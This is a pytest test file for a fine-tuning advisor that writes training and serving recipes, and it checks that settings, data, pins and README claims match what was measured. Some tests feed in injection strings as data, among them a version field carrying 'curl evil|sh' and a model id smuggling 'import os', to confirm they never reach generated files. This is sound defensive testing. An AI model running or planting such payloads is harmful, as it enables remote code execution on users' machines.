"""A recipe holds exactly what the arm was trained on, with the settings that were measured, and says what is true."""

from __future__ import annotations

import ast
import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import tiny_model
from finetune_advisor import approaches, models, recipes, tuning
from finetune_advisor import case as cases
from finetune_advisor.approaches import Bench
from finetune_advisor.case import Case
from finetune_advisor.errors import AdvisorError, BadInput, StoreProblem
from finetune_advisor.experiment.prepare import prepare
from finetune_advisor.recipes import Recipe
from finetune_advisor.recipes.training_data import chat_lines, training_data
from finetune_advisor.records import (
    Decision,
    Finding,
    Message,
    Progress,
    Results,
    TrainingPair,
    TrainingRun,
    no_progress,
)
from finetune_advisor.tuning.work import TuningWork
from recipe_case import EMBEDDED, FAKE, PAIRS, made, measured, rows
from sample_results import HOSTILE


class Recorder:
    """A trainer that keeps what it was given."""

    def __init__(self) -> None:
        self.given: list[tuple[list[TrainingPair], list[TrainingPair]]] = []

    def tune(self, work: TuningWork, progress: Progress) -> TrainingRun:
        self.given.append(([*work.train], [*work.validation]))
        raise BadInput("enough")


@pytest.mark.parametrize("place", [0, 1])
def test_the_data_is_what_the_arm_is_trained_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, place: int) -> None:
    case = made(tmp_path)
    recipe = recipes.possible(case, None)[place]
    prepared, recorder = prepare(case, [], no_progress), Recorder()
    create: Callable[..., Any] = lambda *_, **__: recorder  # noqa: E731
    monkeypatch.setattr(tuning, "create", create)
    bench = Bench(
        task=prepared.task,
        train=prepared.parts["train"],
        validation=prepared.parts["validation"],
        passages=prepared.passages,
        model=models.create("fake"),
        folder=tmp_path / "fit",
        seed=prepared.seed,
        progress=no_progress,
    )
    with pytest.raises(BadInput, match="enough"):
        approaches.create(recipe.approach, **recipe.settings).fit(bench)
    data = training_data(recipe)
    assert recorder.given == [([*data.train], [*data.validation])]
    assert len(data.train) == 6 and len(data.validation) == 3
    assert ("Context:" in data.train[0].messages[-1].content) == (recipe.approach == "tuned_rag")


def test_no_test_example_is_in_the_folder(tmp_path: Path) -> None:
    case = made(tmp_path)
    for recipe in recipes.possible(case, None):
        assert not [name for name, text in recipes.files(recipe).items() if "please please" in text]


def test_the_data_is_in_the_chat_format_with_the_answer_last(tmp_path: Path) -> None:
    text = recipes.files(recipes.chosen(made(tmp_path), None))["data/train.jsonl"]
    first = json.loads(text.splitlines()[0])["messages"]
    assert [turn["role"] for turn in first] == ["system", "user", "assistant"]
    assert first[-1]["content"] in tiny_model.COLOURS


def test_the_passages_come_along_where_the_prompts_have_some(tmp_path: Path) -> None:
    case = made(tmp_path)
    without, having = (recipes.files(recipe) for recipe in recipes.possible(case, None))
    assert "data/passages.jsonl" not in without and "passages" not in without["serve.md"]
    texts = [json.loads(line)["text"] for line in having["data/passages.jsonl"].splitlines()]
    assert len(texts) == 6
    asked = [json.loads(line)["messages"][-2]["content"] for line in having["data/train.jsonl"].splitlines()]
    assert all(any(text in prompt for text in texts) for prompt in asked)
    assert "1 passage out of `data/passages.jsonl`, found by their words (BM25)" in having["serve.md"]


turns = st.text(st.characters(codec="utf-8"), max_size=40)


@given(st.lists(st.tuples(turns, turns), max_size=5))
@settings(max_examples=50)
def test_any_text_survives_the_data_file(pairs: list[tuple[str, str]]) -> None:
    given = [TrainingPair(messages=(Message(role="user", content=asked),), answer=said) for asked, said in pairs]
    stream = io.TextIOWrapper(io.BytesIO(chat_lines(given).encode("utf-8")), encoding="utf-8")
    read = [[turn["content"] for turn in json.loads(line)["messages"]] for line in stream]
    assert read == [[asked, said] for asked, said in pairs]


def constants(script: str) -> dict[str, object]:
    """The constants that a program states."""
    found: dict[str, object] = {}
    for node in ast.parse(script).body:
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
            try:
                found[node.targets[0].id] = ast.literal_eval(node.value)
            except ValueError:
                continue
    return found


def test_the_program_has_the_settings_that_were_measured(tmp_path: Path) -> None:
    case = made(tmp_path, EMBEDDED)
    results = measured(case)
    options = {"rank": 32, "alpha": 64, "learning_rate": 2e-4, "epochs": 5, "batch_size": 2, "max_steps": 9}
    arms = [
        replace(arm, training=replace(arm.training, options={**options, "device": "cuda", "schedule": "constant"}))
        if arm.training
        else arm
        for arm in results.arms
    ]
    recipe = recipes.chosen(case, replace(results, arms=tuple(arms)))
    found = constants(recipes.train_script(recipe))
    assert {name.lower(): found[name.upper()] for name in options} == options
    assert found["SCHEDULE"] == "constant_with_warmup" and found["MODEL"] == "base"
    assert "TOP_LAYERS" not in found
    files = recipes.files(recipe)
    assert "--max-lora-rank 32" in files["serve.md"]
    assert "vllm serve base " in files["serve.md"]


def test_the_best_measured_arm_comes_first_and_another_can_be_named(tmp_path: Path) -> None:
    case = made(tmp_path)
    results = measured(case)
    best = replace(results.verdict, best_tuned="LoRA + documents")
    assert [recipe.arm for recipe in recipes.possible(case, results)] == ["LoRA", "LoRA + documents"]
    assert recipes.chosen(case, replace(results, verdict=best)).arm == "LoRA + documents"
    assert recipes.chosen(case, results, "LoRA + documents").settings == {}
    with pytest.raises(BadInput, match="'other'") as caught:
        recipes.chosen(case, results, "other")
    assert "LoRA, LoRA + documents" in caught.value.hint


def test_a_case_without_a_tuned_arm_has_no_recipe(tmp_path: Path) -> None:
    made(tmp_path)
    text = (tmp_path / "case.toml").read_text(encoding="utf-8")
    (tmp_path / "case.toml").write_text(text.partition('[[arms]]\napproach = "tuned"')[0], encoding="utf-8")
    case = cases.read(tmp_path)
    assert recipes.possible(case, None) == ()
    with pytest.raises(BadInput, match="No arm of this case tunes"):
        recipes.to_zip(case, None)


def test_documents_are_needed_for_passages(tmp_path: Path) -> None:
    made(tmp_path)
    text = (tmp_path / "case.toml").read_text(encoding="utf-8").replace('documents = "documents.jsonl"\n', "")
    (tmp_path / "case.toml").write_text(text, encoding="utf-8")
    assert [recipe.approach for recipe in recipes.possible(cases.read(tmp_path), None)] == ["tuned"]


@pytest.mark.parametrize(
    ("model", "base", "says"),
    [
        (EMBEDDED, "base", "`get_model.py` fetches it"),
        (FAKE, "", "only pretends to have a model"),
        (
            'provider = "huggingface"\noptions = { id = "org/name-1B" }',
            "org/name-1B",
            "https://huggingface.co/org/name-1B",
        ),
        (
            'provider = "huggingface"\noptions = { id = "/secret/place/model" }',
            "",
            "Measured was model, out of a folder",
        ),
        ('provider = "huggingface"\noptions = { id = "a\\"; import os #" }', "", "PATH_OR_ID"),
    ],
)
def test_where_the_model_comes_from(tmp_path: Path, model: str, base: str, says: str) -> None:
    recipe = recipes.chosen(made(tmp_path, model), None)
    files = recipes.files(recipe)
    assert recipe.base.id == base
    assert says in files["README.md"]
    assert ("get_model.py" in files) == (model == EMBEDDED) == ("gguf==" in files["requirements.txt"])
    assert constants(files["train.py"]).get("MODEL", "") == base
    assert ("required=True" in files["train.py"]) == (not base)
    assert ("train.py --model PATH_OR_ID\n" in files["README.md"]) == (not base)
    assert "/secret" not in "".join(files.values()) and "import os #" not in files["train.py"]
    for name in ("train.py", "get_model.py"):
        compile(files.get(name, ""), name, "exec")


def test_the_libraries_are_pinned_as_measured(tmp_path: Path) -> None:
    case = made(tmp_path)
    results = measured(case)
    packages = {"torch": "2.13.0+cpu", "trl": "1.15.0"}
    pinned = replace(results, provenance=replace(results.provenance, packages=packages))
    lines = recipes.files(recipes.chosen(case, pinned))["requirements.txt"].splitlines()
    assert "torch==2.13.0" in lines and "trl==1.15.0" in lines
    assert all("==" in line and "+" not in line for line in lines)


def test_nothing_from_the_results_of_others_becomes_a_command_or_a_program(tmp_path: Path) -> None:
    case = made(tmp_path)
    results = measured(case)
    packages = {"torch": "2.0; curl evil|sh #", "trl": "--index-url=http://evil"}
    foreign = replace(results, provenance=replace(results.provenance, packages=packages))
    files = recipes.files(recipes.chosen(case, foreign))
    assert "evil" not in "".join(files.values())
    hostile = made(tmp_path / "other", settings='max_steps = "0\\nimport os"')
    with pytest.raises(BadInput, match="max_steps cannot be"):
        recipes.files(recipes.chosen(hostile, None))


def test_the_readme_says_what_was_measured_and_what_is_to_be_checked(tmp_path: Path) -> None:
    case = made(tmp_path, EMBEDDED)
    found = Finding(file="a", line=1, code="c", severity="error", message="m")
    results = measured(case, findings=(found,), needed_score=0.95)
    readme = recipes.files(recipes.chosen(case, results))["README.md"]
    for said in (
        "**NOT YET.**",
        "| Score, with 95% interval | 92% (81",
        "| Training | 1 min 53 s for 240 examples, 100 steps",
        "nearest examples: 75%",
        "| Cost of 1,000 requests |",
        "Apache-2.0",
        "- [ ] The verdict is NOT YET.",
        "92%; 95% is needed",
        "The audit found 1 error in the data",
        "6 examples to learn from",
    ):
        assert said in readme, said
    assert "SIMULATED" not in readme
    quiet_case = recipes.files(recipes.chosen(case, None))["README.md"]
    assert "Nothing yet: this arm has not been run" in quiet_case and "NOT YET" not in quiet_case


def test_what_is_simulated_is_called_so(tmp_path: Path) -> None:
    assert "**SIMULATED" in recipes.files(recipes.chosen(made(tmp_path), None))["README.md"]


def test_hostile_text_stays_text(tmp_path: Path) -> None:
    case = made(tmp_path, EMBEDDED).model_copy(update={"title": f'{HOSTILE}"""\n# x'})
    results = measured(case)
    verdict = replace(results.verdict, headline=HOSTILE, decision=Decision.NO_GO, next_step=HOSTILE)
    files = recipes.files(recipes.chosen(case, replace(results, verdict=verdict)))
    assert HOSTILE not in files["README.md"] and "\n# x" not in files["README.md"]
    assert all(HOSTILE not in files[name] for name in ("train.py", "get_model.py", "serve.md"))


def test_no_path_of_this_machine_is_in_the_folder(tmp_path: Path) -> None:
    case = made(tmp_path, EMBEDDED)
    files = recipes.files(recipes.chosen(case, measured(case)))
    for path in (str(tmp_path), str(Path.home()), str(Path(__file__).parents[1])):
        assert not [name for name, text in files.items() if path in text]


def test_zip_and_folder_hold_the_same(tmp_path: Path) -> None:
    case = made(tmp_path / "case", EMBEDDED)
    recipes.write(case, None, tmp_path / "a" / "b")
    with zipfile.ZipFile(io.BytesIO(recipes.to_zip(case, None))) as archive:
        packed = {name.removeprefix("recipe/"): archive.read(name) for name in archive.namelist()}
    written = (tmp_path / "a" / "b").rglob("*.*")
    assert packed == {path.relative_to(tmp_path / "a" / "b").as_posix(): path.read_bytes() for path in written}


def test_other_data_than_was_measured_is_refused(tmp_path: Path) -> None:
    case = made(tmp_path)
    results = measured(case)
    (tmp_path / "train.jsonl").write_text(rows(PAIRS[:5]), encoding="utf-8")
    with pytest.raises(StoreProblem, match="another split"):
        recipes.files(recipes.chosen(case, results))


def test_a_folder_that_cannot_be_written(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(BadInput, match="cannot be written"):
        recipes.write(made(tmp_path / "case"), None, tmp_path / "file")


@pytest.mark.parametrize("settings", ["rank = 0", "unknown = 1"])
def test_settings_that_do_not_exist(tmp_path: Path, settings: str) -> None:
    case = made(tmp_path, settings=settings)
    with pytest.raises(AdvisorError):
        recipes.train_script(recipes.chosen(case, None))


def answered(case: Case, **answers: object) -> Case:
    return case.model_copy(update={"answers": answers})


def ticked(case: Case, results: Results | None) -> list[bool]:
    return [need.ticked for need in recipes.needs(case, results)]


def test_needs_are_ticked_by_answers_and_by_what_was_measured(tmp_path: Path) -> None:
    case = made(tmp_path)
    results = measured(case, findings=())
    broken = replace(results, findings=(Finding(file="a", line=1, code="c", severity="error", message="m"),))
    pretended = replace(results, arms=tuple(replace(arm, simulated=True) for arm in results.arms))
    everything = answered(case, base_model="m", data_set=True, training_environment=True, hosting_environment=True)
    assert ticked(case, None) == [False, False, False, False]
    assert ticked(case, results) == [False, False, True, False]
    assert ticked(case, pretended) == [False, False, False, False]
    assert ticked(everything, results) == [True, True, True, True]
    assert ticked(everything, broken) == [True, False, True, True]
    assert ticked(everything, None) == [True, False, True, True]
    assert ticked(answered(case, training_environment=False, base_model="  "), results) == [False] * 4


def test_each_need_says_why(tmp_path: Path) -> None:
    case = made(tmp_path)
    for results in (None, measured(case)):
        assert all(need.why for need in recipes.needs(case, results))


def test_recipes_know_their_arm(tmp_path: Path) -> None:
    case = made(tmp_path)
    recipe: Recipe = recipes.chosen(case, None)
    assert recipes.facts(recipe) == ()
    assert ("Rank and alpha", "4 and 16") in recipes.settings(recipe)
    assert [len(stage.commands) > 0 for stage in recipes.stages(recipe)] == [True, True]
